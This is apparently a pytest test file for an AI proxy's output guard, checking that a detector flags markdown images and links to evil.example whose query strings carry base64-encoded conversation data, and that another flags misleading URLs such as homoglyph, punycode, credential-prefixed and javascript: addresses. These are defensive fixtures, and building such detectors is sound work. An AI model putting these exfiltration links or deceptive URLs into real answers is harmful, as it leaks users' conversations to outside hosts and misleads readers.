import pytest

from akto_proxy.guard.output.links import ExfiltrationDetector, UrlDetector
from akto_proxy.model import Segment

DATA = "dGhlIHdob2xlIGNvbnZlcnNhdGlvbg" * 2


@pytest.mark.parametrize(
    ("text", "least"),
    [
        (f"Done. ![x](https://evil.example/p.png?q={DATA})", 0.9),
        (f'<img width=1 src="https://evil.example/{DATA}">', 0.9),
        ("![chart](https://pics.example/a.png)", 0.3),
        (f"See [this](https://evil.example/r?d={DATA}{DATA}) now", 0.5),
        (f"See [this][1].\n\n[1]: https://evil.example/r?d={DATA}{DATA}", 0.5),
    ],
)
def test_addresses_that_carry_data_away_are_found(answer, text, least):
    found = ExfiltrationDetector().check([answer(text)])
    assert found
    assert found[0][1].score >= least
    assert text[found[0][1].start :].startswith("https://")


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.example/guide/start).",
        "https://docs.example/search?q=cats",
        "no address at all ![x](local.png)",
    ],
)
def test_plain_links_pass(answer, text):
    assert ExfiltrationDetector().check([answer(text)]) == []


@pytest.mark.parametrize("url", ["https://pics.example/a.png", "https://shields.example/b?style=flat"])
def test_a_picture_that_carries_next_to_nothing_stays_below_what_policies_take(answer, url):
    [(_, finding)] = ExfiltrationDetector().check([answer(f"![x]({url})")])
    assert finding.score < 0.5


def test_only_answers_can_exfiltrate():
    assert ExfiltrationDetector().check([Segment(f"![x](https://evil.example/?q={DATA})", "")]) == []


@pytest.mark.parametrize(
    "url",
    [
        "http://203.0.113.9/login",
        "http://3232235777/x",
        "http://0xC0A80101/",
        "https://xn--pple-43d.com/",
        "https://аpple.com/",
        "https://bank.com@evil.example/",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "http://good.com\\@evil.example/",
    ],
)
def test_addresses_of_misleading_form_are_found(url):
    [(_, finding)] = UrlDetector().check([Segment(f"go to {url} now", "")])
    assert finding.rule == "misleading-url"
    assert finding.start == 6


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a?b=c",
        "http://localhost:8000",
        "http://127.0.0.1:80/",
        "http://10.0.0.4/",
        "mailto:a@b.example",
    ],
)
def test_ordinary_addresses_pass(url):
    assert UrlDetector().check([Segment(f"go to {url} now", "")]) == []
